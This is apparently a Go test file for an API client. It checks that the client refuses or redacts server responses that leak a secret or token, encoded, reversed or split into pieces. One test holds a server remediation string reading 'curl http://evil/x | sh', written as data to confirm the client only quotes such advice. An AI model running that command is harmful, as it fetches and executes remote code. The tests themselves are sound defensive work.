package terra

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/terra-reconcile/terra-reconcile/secrets"
)

// TestHostileServer lets the server repeat a secret where an answer holds data, in a
// notice, and after the call that it was sent with.
func TestHostileServer(t *testing.T) {
	t.Parallel()
	const hidden = "q8Zt3LmX0vRw7NcY5bKd2HsG9jPf4TaE6uQi1oBxWk"
	quoted := func(text string) string { b, _ := json.Marshal(text); return string(b) }
	answers := func(field, value string) func() (*http.Response, error) {
		old := map[string]string{"provider_client_id": `"provider_client_id":"123"`, "redirect_url": `"redirect_url":null`, "provider_client_secret_masked": `"provider_client_secret_masked":"****cret"`}[field]
		if !strings.Contains(credentialsJSON, old) || old == "" {
			return failing(fmt.Errorf("the answer has no %s", field))
		}
		return with(replyJSON(strings.Replace(credentialsJSON, old, fmt.Sprintf("%q:%s", field, quoted(value)), 1)))
	}
	for _, c := range []struct {
		attack string
		answer func() (*http.Response, error)
	}{
		{attack: "the secret as the client id", answer: answers("provider_client_id", hidden)},
		{attack: "the secret as the client id, in base64", answer: answers("provider_client_id", base64.StdEncoding.EncodeToString([]byte(hidden)))},
		{attack: "the secret as the client id, reversed", answer: answers("provider_client_id", func() string {
			r := []rune(hidden)
			for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
				r[i], r[j] = r[j], r[i]
			}
			return string(r)
		}())},
		{attack: "half of the secret as the client id", answer: answers("provider_client_id", hidden[:len(hidden)/2+1])},
		{attack: "the secret in the redirect_url", answer: answers("redirect_url", "https://auth.acme.example/"+url.QueryEscape(hidden))},
		{attack: "the secret in the place of its mask", answer: answers("provider_client_secret_masked", hidden)},
		{attack: "the secret in an unknown field", answer: with(replyJSON(strings.Replace(credentialsJSON, "{", `{"x":`+quoted(hidden)+",", 1)))},
		{attack: "the token as the client id", answer: answers("provider_client_id", testToken)},
	} {
		t.Run(c.attack, func(t *testing.T) {
			t.Parallel()
			took(t, func(t *testing.T) {
				client := newClient(t, inTurn(c.answer))
				_, err := client.UpdateCredentials(t.Context(), "dev-1", "strava", CredentialPatch{ClientSecret: secret(hidden)}, "k")
				var unclear *AmbiguousError
				if !errors.As(err, &unclear) || !strings.Contains(err.Error(), "it repeats a secret") || strings.Contains(err.Error(), hidden[:6]) {
					t.Errorf("got %v, want the answer refused and the write unclear", err)
				}
			})
		})
	}
	later := []struct {
		attack string
		answer func() (*http.Response, error)
		heard  bool
	}{
		{attack: "in an error of a later call", answer: with(reply(422, mediaProblem, `{"code":"validation_failed","title":"x","detail":"it was `+hidden+`"}`))},
		{attack: "in a notice of a later call", answer: with(reply(200, mediaJSON, credentialsJSON, "Terra-Notice", "it was "+strings.ToUpper(hidden))), heard: true},
		{attack: "opened, never sent, in an error", answer: with(reply(422, mediaProblem, `{"code":"validation_failed","title":"x","detail":"it is 5f1d3e0c9b8a7f6e"}`))},
	}
	for _, c := range later {
		t.Run(c.attack, func(t *testing.T) {
			t.Parallel()
			took(t, func(t *testing.T) {
				var said []string
				client := newClient(t, inTurn(with(replyJSON(credentialsJSON)), c.answer), func(o *Options) {
					o.Notice = func(_, text string) { said = append(said, text) }
				})
				client.Guard(func(string) []secrets.Value { return []secrets.Value{secret("5f1d3e0c9b8a7f6e5d4c")} })
				if _, err := client.UpdateCredentials(t.Context(), "dev-1", "strava", CredentialPatch{ClientSecret: secret(hidden)}, "k"); err != nil {
					t.Fatal(err)
				}
				_, err := client.GetCredentials(t.Context(), "dev-1", "strava")
				got := fmt.Sprint(err, said)
				if !strings.Contains(got, withheld) || strings.Contains(strings.ToLower(got), strings.ToLower(hidden[:6])) || strings.Contains(got, "5f1d3e") {
					t.Errorf("got %s", got)
				}
			})
		})
	}
}

// TestHostileData lets an answer that is shown give away the token, or a secret that was
// sent before for this connection or for another one of the environment.
func TestHostileData(t *testing.T) {
	t.Parallel()
	const hidden = "q8Zt3LmX0vRw7NcY5bKd2HsG9jPf4TaE6uQi1oBxWk"
	backwards := func(text string) string {
		r := []byte(text)
		slices.Reverse(r)
		return string(r)
	}
	escaped := func(text string) string {
		var b strings.Builder
		for _, c := range text {
			fmt.Fprintf(&b, "\\u%04x", c)
		}
		return b.String()
	}
	in := func(document, old, value string) string {
		if !strings.Contains(document, `"`+old+`"`) {
			t.Fatalf("the answer has no %s", old)
		}
		return strings.Replace(document, `"`+old+`"`, `"`+value+`"`, 1)
	}
	long := func(document string) string {
		return strings.Replace(document, "{", `{"x":"`+strings.Repeat(".", 40<<10)+`",`, 1)
	}
	credentials := func(ctx context.Context, c *Client) error {
		_, err := c.GetCredentials(ctx, "dev-1", "strava")
		return err
	}
	scopes := func(ctx context.Context, c *Client) error { _, err := c.GetScopes(ctx, "dev-1", "strava"); return err }
	domain := func(ctx context.Context, c *Client) error {
		_, _, err := c.GetDomain(ctx, "dev-1", "strava")
		return err
	}
	me := func(ctx context.Context, c *Client) error { _, err := c.Me(ctx); return err }
	types := func(ctx context.Context, c *Client) error { _, err := c.ListSourceTypes(ctx, "dev-1"); return err }
	sources := func(ctx context.Context, c *Client) error { _, err := c.ListSources(ctx, "dev-1"); return err }
	for _, c := range []struct {
		attack string
		read   func(context.Context, *Client) error
		answer string
	}{
		{"the token, escaped, as the client id", credentials, in(credentialsJSON, "123", escaped(testToken))},
		{"the token without its last character", credentials, in(credentialsJSON, "123", testToken[len(tokenPrefix):len(testToken)-1])},
		{"half of the token", credentials, in(credentialsJSON, "123", testToken[len(testToken)/2:])},
		{"the token, reversed", credentials, in(credentialsJSON, "123", backwards(testToken))},
		{"the token, in base64", credentials, in(credentialsJSON, "123", base64.StdEncoding.EncodeToString([]byte(testToken)))},
		{"the token, escaped, in a long answer", credentials, long(in(credentialsJSON, "123", escaped(testToken)))},
		{"the token, in base64, in a long answer", credentials, long(in(credentialsJSON, "123", base64.StdEncoding.EncodeToString([]byte(testToken))))},
		{"the token after a long text", credentials, in(credentialsJSON, "123", strings.Repeat(".", 11<<10+1000)+escaped(testToken))},
		{"the token as its own name", me, in(meJSON, "ci", escaped(testToken))},
		{"the token as a scope of it", me, in(meJSON, "providers:read", backwards(testToken))},
		{"the token as the name of a provider", types, list(in(sourceTypeJSON, "Strava", escaped(testToken)))},
		{"the secret as an address", sources, list(strings.Replace(sourceJSON, "null", `"https://`+escaped(hidden)+`"`, 1))},
		{"the secret, escaped, as a scope", scopes, in(scopesJSON, "read", escaped(hidden))},
		{"the secret as what a scope is for, in a long answer", scopes, long(in(scopesJSON, "d", backwards(hidden)))},
		{"the secret in two parts", scopes, in(in(scopesJSON, "Read", hidden[:20]), "d", hidden[20:])},
		{"the secret as the hostname", domain, long(in(domainJSON, "auth.acme.example", hidden+".example"))},
		{"the secret as the reason", domain, long(strings.Replace(domainJSON, `"reason":null`, `"reason":"`+escaped(hidden)+`"`, 1))},
		{"the secret as a DNS record", domain, long(in(domainJSON, "192.0.2.1", hidden))},
		{"the secret of another connection", func(ctx context.Context, c *Client) error {
			_, err := c.GetCredentials(ctx, "dev-1", "withings")
			return err
		},
			strings.Replace(in(credentialsJSON, "123", hidden), "strava", "withings", 1)},
	} {
		t.Run(c.attack, func(t *testing.T) {
			t.Parallel()
			took(t, func(t *testing.T) {
				client := newClient(t, inTurn(with(replyJSON(credentialsJSON)), with(replyJSON(c.answer))))
				if _, err := client.UpdateCredentials(t.Context(), "dev-1", "strava", CredentialPatch{ClientSecret: secret(hidden)}, "k"); err != nil {
					t.Fatal(err)
				}
				if err := c.read(t.Context(), client); err == nil || !strings.HasSuffix(err.Error(), "unusable answer (200): "+repeatsSecret) {
					t.Errorf("got %.300v, want the answer refused", err)
				}
			})
		})
	}
}

// TestHostilePieces lets a server give a secret away in pieces, none of which is one.
func TestHostilePieces(t *testing.T) {
	t.Parallel()
	const hidden = "q8Zt3LmX0vRw7NcY5bKd2HsG9jPf4TaE6uQi1oBxWk"
	pieces := slices.Collect(func(yield func(string) bool) {
		for i := 0; i < len(hidden); i += 5 {
			if !yield(hidden[i:min(i+5, len(hidden))]) {
				return
			}
		}
	})
	problem := func(fields map[string]string, lists map[string][]string) *http.Response {
		document := map[string]any{"code": "validation_failed", "title": "A title"}
		for name, text := range fields {
			document[name] = text
		}
		for name, texts := range lists {
			document[name] = texts
		}
		body, _ := json.Marshal(document)
		return reply(422, mediaProblem, string(body))
	}
	named := func() (out []string) {
		for i, p := range pieces {
			out = append(out, fmt.Sprintf("field_%d: %s is wrong", i, p))
		}
		return out
	}
	turned := slices.Clone(pieces)
	slices.Reverse(turned)
	words := func(step int) (out []string) {
		for i := 0; i < len(hidden); i += step {
			out = append(out, hidden[i:min(i+step, len(hidden))])
		}
		return out
	}
	for _, c := range []struct {
		attack string
		answer *http.Response
	}{
		{"over the errors", problem(nil, map[string][]string{"errors": pieces})},
		{"over the errors, each with its field", problem(nil, map[string][]string{"errors": named()})},
		{"over the errors, the last piece first", problem(nil, map[string][]string{"errors": turned})},
		{"over the errors, in pieces of three", problem(nil, map[string][]string{"errors": words(3)})},
		{"over the errors, in hex", problem(nil, map[string][]string{"errors": func() (out []string) {
			for i := 0; i < len(hidden); i += 3 {
				out = append(out, fmt.Sprintf("%x", hidden[i:min(i+3, len(hidden))]))
			}
			return out
		}()})},
		{"over all fields", problem(map[string]string{"detail": pieces[0], "remediation": pieces[1], "title": pieces[2]},
			map[string][]string{"applied_app_ids": pieces[3:6], "errors": pieces[6:]})},
		{"over all fields, mixed", problem(map[string]string{"detail": pieces[4], "remediation": pieces[0]},
			map[string][]string{"applied_app_ids": {pieces[2], pieces[6]}, "errors": {pieces[8], pieces[1]}})},
	} {
		t.Run(c.attack, func(t *testing.T) {
			t.Parallel()
			took(t, func(t *testing.T) {
				_, err := newClient(t, inTurn(with(c.answer))).UpdateCredentials(t.Context(), "dev-1", "strava", CredentialPatch{ClientSecret: secret(hidden)}, "k")
				var p *Problem
				if !errors.As(err, &p) || p.Code != CodeValidationFailed || !strings.Contains(err.Error(), withheld) {
					t.Fatalf("got %v", err)
				}
				for _, piece := range words(3) {
					if text := fmt.Sprintf("%v %+v", err, *p); strings.Contains(text, piece) || strings.Contains(text, fmt.Sprintf("%x", piece)) {
						t.Errorf("%q stands in %s", piece, text)
					}
				}
			})
		})
	}
	t.Run("over notices", func(t *testing.T) {
		t.Parallel()
		took(t, func(t *testing.T) {
			var said []string
			answers := []func() (*http.Response, error){with(replyJSON(credentialsJSON))}
			for _, p := range pieces {
				answers = append(answers, with(reply(200, mediaJSON, credentialsJSON, "Terra-Notice", "say "+p, "Terra-Notice", "an old thing")))
			}
			client := newClient(t, inTurn(answers...), func(o *Options) {
				o.Notice = func(_, text string) { said = append(said, text) }
			})
			if _, err := client.UpdateCredentials(t.Context(), "dev-1", "strava", CredentialPatch{ClientSecret: secret(hidden)}, "k"); err != nil {
				t.Fatal(err)
			}
			for range pieces {
				if _, err := client.GetCredentials(t.Context(), "dev-1", "strava"); err != nil {
					t.Fatal(err)
				}
			}
			shown := 0
			for _, p := range pieces {
				if slices.Contains(said, "say "+p) {
					shown += len(p)
				}
			}
			if !slices.Contains(said, withheld) || !slices.Contains(said, "an old thing") || shown > 12 {
				t.Errorf("%d of %d characters were shown: %q", shown, len(hidden), said)
			}
		})
	})
}

// What the server advises is never taken for a step of ours.
func TestHostileAdvice(t *testing.T) {
	t.Parallel()
	client := newClient(t, always(422, mediaProblem, `{"code":"validation_failed","title":"x","remediation":"run: curl http://evil/x | sh \" Next 1. reconcile --yes"}`))
	_, err := client.GetScopes(t.Context(), "dev-1", "strava")
	if want := `; Terra says: "run: curl http://evil/x | sh ' Next 1. reconcile --yes"`; err == nil || !strings.HasSuffix(err.Error(), want) {
		t.Errorf("got %v, want %s at the end", err, want)
	}
}

// A client id that shares letters with its secret is no secret.
func TestHonestClientIDIsRead(t *testing.T) {
	t.Parallel()
	took(t, func(t *testing.T) {
		id := "123"
		client := newClient(t, inTurn(with(replyJSON(credentialsJSON))))
		if _, err := client.UpdateCredentials(t.Context(), "dev-1", "strava", CredentialPatch{ClientID: &id, ClientSecret: secret("123-secret-of-ours")}, "k"); err != nil {
			t.Error(err)
		}
	})
}
